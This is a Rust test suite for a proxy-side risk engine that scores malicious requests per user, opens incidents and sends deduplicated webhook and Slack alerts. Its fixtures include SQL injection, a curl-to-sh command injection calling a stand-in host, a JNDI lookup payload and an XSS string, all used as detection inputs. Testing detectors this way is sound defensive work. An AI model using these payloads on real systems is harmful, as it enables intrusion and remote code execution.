@@ -1,0 +1,287 @@
+//! Does the engine do its one job, whatever order the proxy calls it in? Without a proxy: a map, a clock, a list of calls.
+
+#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]
+
+use std::collections::BTreeMap;
+
+use user_risk_filter::clock::Timestamp;
+use user_risk_filter::engine::beat::Ticket;
+use user_risk_filter::engine::config::Config;
+use user_risk_filter::engine::effect::{Counter, Effect};
+use user_risk_filter::engine::stream::{Mark, Part, Stream};
+use user_risk_filter::engine::{Engine, Input};
+use user_risk_filter::exchange::{Facts, Head};
+use user_risk_filter::notify::callout::Reply;
+use user_risk_filter::secret::Variable;
+use user_risk_filter::state::memory::Memory;
+
+const UNION: &str = "/search?q=1'%20UNION%20SELECT%20password%20FROM%20users--";
+const COMMAND: &str = "/run?c=%3Bcurl%20http://x.example/s%7Csh";
+const JNDI: &str = "/log?x=$%7Bjndi:ldap://x.example/a%7D";
+const SCRIPT: &str = "/say?t=%3Cscript%3Ealert(1)%3C/script%3E";
+const TEST: &str = "/?t=user-risk-filter-test";
+const PLAIN: &str = "/search?q=union%20jack";
+
+const CHANNELS: &str = r#""notify": [
+    {"webhook": {"cluster": "receiver", "url": "https://h.example/risk", "secret": "whsec_bGFiLW9ubHktbGFiLW9ubHktbGFiLW9ubHktbGFi"}},
+    {"slack": {"cluster": "slack", "url": "https://hooks.slack.com/services/T/B/x"}}]"#;
+
+/// A proxy of a few workers on one thread.
+struct Proxy<'a> {
+    workers: Vec<Engine<&'a Memory>>,
+    now: u64,
+    sent: Vec<(String, String)>,
+    lines: Vec<serde_json::Value>,
+    counts: BTreeMap<&'static str, u64>,
+    under_way: Vec<(usize, Ticket)>,
+}
+
+impl<'a> Proxy<'a> {
+    fn new(cells: &'a Memory, configuration: &str) -> Self {
+        let worker = |seed| {
+            let config = Config::load(configuration.as_bytes(), &|_| Variable::Unset).unwrap().config;
+            Engine::new(config, cells, [seed; 32])
+        };
+        let (sent, lines, counts) = (Vec::new(), Vec::new(), BTreeMap::new());
+        Self { workers: vec![worker(1), worker(2)], now: 1_000_000, sent, lines, counts, under_way: Vec::new() }
+    }
+
+    fn on(&mut self, worker: usize, input: Input<'_>) {
+        for effect in self.workers[worker].on(input, Timestamp::from_millis(self.now)) {
+            match effect {
+                Effect::Log(_, line) => self.lines.push(serde_json::from_str(&line).unwrap()),
+                Effect::Count(counter, number) => *self.counts.entry(counter.name()).or_default() += number,
+                Effect::Call { ticket, cluster, request, .. } => {
+                    let id = request.headers.iter().find(|(name, _)| *name == "webhook-id");
+                    self.sent.push((cluster, id.map(|(_, id)| id.clone()).unwrap_or_default()));
+                    self.under_way.push((worker, ticket));
+                }
+            }
+        }
+    }
+
+    /// A GET of `target` by `user` on a worker; the points that it got.
+    fn get(&mut self, worker: usize, user: &str, target: &str) -> u64 {
+        let lines = self.lines.len();
+        let mut stream = Stream::default();
+        let head = [(":method", "GET"), (":path", target), (":authority", "shop.example"), ("x-user-id", user)];
+        self.on(worker, Input::Stream(&mut stream, Part::Head(Head::new(head.into_iter().collect()))));
+        for mark in [Mark::Complete, Mark::Answered, Mark::End] {
+            self.on(worker, Input::Stream(&mut stream, Part::Mark(mark, &facts)));
+        }
+        let line = self.lines[lines..].iter().find(|line| line["event"] == "malicious_request");
+        line.map_or(0, |line| line["points"].as_u64().unwrap())
+    }
+
+    /// Ticks of both workers, each call answered with `status`.
+    fn deliver(&mut self, status: u16) {
+        for worker in 0..self.workers.len() {
+            self.on(worker, Input::Beat);
+        }
+        while let Some((worker, ticket)) = self.under_way.pop() {
+            let reply = Reply::Answer { status, retry_after: None, body: b"ok".to_vec() };
+            self.on(worker, Input::Answered(ticket, reply));
+        }
+    }
+
+    fn count(&self, counter: Counter) -> u64 {
+        self.counts.get(counter.name()).copied().unwrap_or_default()
+    }
+}
+
+fn facts() -> Facts {
+    Facts { address: b"192.0.2.7:4000".to_vec(), request_id: b"r-1".to_vec(), route: Vec::new(), status: Some(200) }
+}
+
+fn with(options: &str) -> String {
+    format!("{{{options}}}")
+}
+
+#[test]
+fn two_critical_attacks_open_one_incident_told_once_on_each_channel() {
+    let cells = Memory::default();
+    let mut proxy = Proxy::new(&cells, &with(CHANNELS));
+    assert_eq!(proxy.get(0, "alice", PLAIN), 0);
+    assert_eq!(proxy.get(0, "mallory", UNION), 8);
+    assert_eq!(proxy.get(1, "mallory", UNION), 0, "the same act counts once");
+    assert_eq!(proxy.get(1, "bob", COMMAND), 8);
+    proxy.deliver(200);
+    assert_eq!(proxy.sent, []);
+    assert_eq!(proxy.get(1, "mallory", COMMAND), 8);
+    proxy.deliver(200);
+    proxy.deliver(200);
+    let clusters: Vec<_> = proxy.sent.iter().map(|(cluster, _)| cluster.as_str()).collect();
+    assert_eq!(clusters, ["receiver", "slack"]);
+    assert_eq!(proxy.count(Counter::Opened), 1);
+    assert_eq!(proxy.count(Counter::Sent), 2);
+    let opened: Vec<_> = proxy.lines.iter().filter(|line| line["event"] == "incident_opened").collect();
+    assert_eq!((opened.len(), &opened[0]["increase"], &opened[0]["user"]), (1, &16.into(), &"mallory".into()));
+}
+
+#[test]
+fn two_requests_with_the_test_string_are_an_alert() {
+    let cells = Memory::default();
+    let mut proxy = Proxy::new(&cells, &with(CHANNELS));
+    assert_eq!(proxy.get(0, "ops", TEST), 8);
+    assert_eq!(proxy.get(0, "ops", TEST), 8, "always a new act");
+    proxy.deliver(200);
+    assert_eq!(proxy.sent.len(), 2);
+}
+
+#[test]
+fn one_request_never_opens_an_incident() {
+    let cells = Memory::default();
+    let mut proxy = Proxy::new(&cells, "{}");
+    let all = format!("{UNION}&{}&{}&{}", &COMMAND[5..], &JNDI[5..], &SCRIPT[5..]);
+    assert_eq!(proxy.get(0, "mallory", &all), 10, "the cap is the threshold");
+    assert_eq!(proxy.get(0, "mallory", &all), 0);
+    assert_eq!(proxy.count(Counter::Opened), 0);
+}
+
+#[test]
+fn points_leave_on_time_silently_and_a_new_crossing_is_a_new_incident() {
+    let cells = Memory::default();
+    let options = format!(r#""risk": {{"window": "3s"}}, {CHANNELS}"#);
+    let mut proxy = Proxy::new(&cells, &with(&options));
+    proxy.get(0, "mallory", UNION);
+    proxy.get(1, "mallory", COMMAND);
+    proxy.deliver(200);
+    let first = proxy.sent.clone();
+    assert_eq!(first.len(), 2);
+    for _ in 0..40 {
+        proxy.now += 100;
+        proxy.deliver(200);
+    }
+    assert_eq!(proxy.sent.len(), 2, "nothing is told because points left");
+    // The same acts count again: they are not in the window any more, nor an echo of a minute ago.
+    proxy.now += 60_000;
+    assert_eq!(proxy.get(0, "mallory", UNION), 8);
+    proxy.deliver(200);
+    assert_eq!(proxy.sent.len(), 2, "the increase is 8, not 24");
+    assert_eq!(proxy.get(0, "mallory", COMMAND), 8);
+    proxy.deliver(200);
+    assert_eq!(proxy.sent.len(), 4);
+    assert_ne!(proxy.sent[2].1, first[0].1, "another incident, another message id");
+}
+
+#[test]
+fn a_message_keeps_its_id_until_it_has_arrived() {
+    let cells = Memory::default();
+    let mut proxy = Proxy::new(&cells, &with(CHANNELS));
+    proxy.get(0, "mallory", UNION);
+    proxy.get(0, "mallory", COMMAND);
+    for status in [503, 503, 200, 200] {
+        proxy.deliver(status);
+        proxy.now += 3_000;
+    }
+    let ids: Vec<_> = proxy.sent.iter().filter(|(cluster, _)| cluster == "receiver").map(|(_, id)| id).collect();
+    assert_eq!(ids.len(), 3);
+    assert!(ids.iter().all(|id| *id == ids[0] && id.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')));
+    assert_eq!((proxy.count(Counter::Retried), proxy.count(Counter::Sent)), (4, 2));
+}
+
+#[test]
+fn a_worker_that_died_before_queueing_is_finished_by_the_next_one() {
+    let cells = Memory::default();
+    let mut proxy = Proxy::new(&cells, &with(CHANNELS));
+    proxy.get(0, "mallory", UNION);
+    // A cell that can't be changed any more stands in for the death: the incident is recorded, the queue never fed.
+    let dead = Engine::new(
+        Config::load(with(CHANNELS).as_bytes(), &|_| Variable::Unset).unwrap().config,
+        Dying { cells: &cells, queues: true },
+        [3; 32],
+    );
+    let head = [(":method", "GET"), (":path", COMMAND), (":authority", "shop.example"), ("x-user-id", "mallory")];
+    let mut stream = Stream::default();
+    let now = Timestamp::from_millis(proxy.now);
+    dead.on(Input::Stream(&mut stream, Part::Head(Head::new(head.into_iter().collect()))), now);
+    dead.on(Input::Stream(&mut stream, Part::Mark(Mark::Complete, &facts)), now);
+    proxy.deliver(200);
+    assert_eq!(proxy.sent, []);
+    proxy.get(1, "mallory", UNION);
+    proxy.deliver(200);
+    assert_eq!(proxy.sent.len(), 2, "whoever meets a pending incident queues it");
+}
+
+/// Cells in which the outbox can't be written.
+struct Dying<'a> {
+    cells: &'a Memory,
+    queues: bool,
+}
+
+impl user_risk_filter::state::Cells for Dying<'_> {
+    fn read(&self, key: &str) -> Result<Option<user_risk_filter::state::Cell>, user_risk_filter::state::Unavailable> {
+        self.cells.read(key)
+    }
+
+    fn swap(
+        &self,
+        key: &str,
+        bytes: &[u8],
+        seen: Option<user_risk_filter::state::Version>,
+    ) -> Result<(), user_risk_filter::state::Refusal> {
+        if self.queues && (key.contains("/parcels/") || key.contains("/queue/")) {
+            return Err(user_risk_filter::state::Refusal::Unavailable);
+        }
+        self.cells.swap(key, bytes, seen)
+    }
+}
+
+#[test]
+fn the_memory_of_a_million_users_is_that_of_a_few() {
+    let cells = Memory::default();
+    let mut proxy = Proxy::new(&cells, r#"{"memory": {"users": 64}}"#);
+    for user in 0..1000 {
+        proxy.get(0, &format!("user-{user}"), UNION);
+    }
+    assert!(cells.len() <= 64 / 8 + 2, "{} cells", cells.len());
+    assert!(proxy.count(Counter::Evicted) > 900);
+    proxy.now += 1000;
+    assert_eq!(proxy.get(0, "user-999", COMMAND), 8, "a newcomer is always admitted");
+}
+
+#[test]
+fn parts_may_come_in_any_order_or_not_at_all() {
+    let cells = Memory::default();
+    let mut proxy = Proxy::new(&cells, &with(CHANNELS));
+    let marks = [Mark::End, Mark::Answered, Mark::Complete];
+    for order in 0..6 {
+        let mut stream = Stream::default();
+        for step in 0..6 {
+            let mark = marks[(order + step) % 3];
+            proxy.on(0, Input::Stream(&mut stream, Part::Mark(mark, &facts)));
+            proxy.on(0, Input::Stream(&mut stream, Part::Chunk(b"a=1' UNION SELECT password FROM users--")));
+        }
+        proxy.on(0, Input::Stream(&mut stream, Part::Head(Head::default())));
+        proxy.on(0, Input::Stream(&mut stream, Part::Mark(Mark::End, &facts)));
+    }
+    assert!(proxy.lines.iter().any(|line| line["source"] == "address"), "without a header it is the address's");
+}
+
+#[test]
+fn the_log_is_bounded_and_says_so() {
+    let cells = Memory::default();
+    let mut proxy = Proxy::new(&cells, "{}");
+    for user in 0..50 {
+        proxy.get(0, &user.to_string(), UNION);
+    }
+    assert_eq!(proxy.lines.len(), 10);
+    assert_eq!(proxy.count(Counter::Suppressed), 40);
+    proxy.now += 1000;
+    proxy.get(0, "later", UNION);
+    assert_eq!(proxy.lines.len(), 11);
+}
+
+#[test]
+fn no_line_holds_what_a_client_sent_but_its_name() {
+    let cells = Memory::default();
+    let mut proxy = Proxy::new(&cells, "{}");
+    proxy.get(
+        0,
+        "mallory\u{202e}\"\n",
+        "/canary-path/1?canary-name=1'%20UNION%20SELECT%20canary-value%20FROM%20users--",
+    );
+    let line = proxy.lines[0].to_string();
+    assert!(!line.contains("canary-value") && !line.contains("UNION"), "{line}");
+    assert!(!line.contains('\u{202e}'), "{line}");
+}
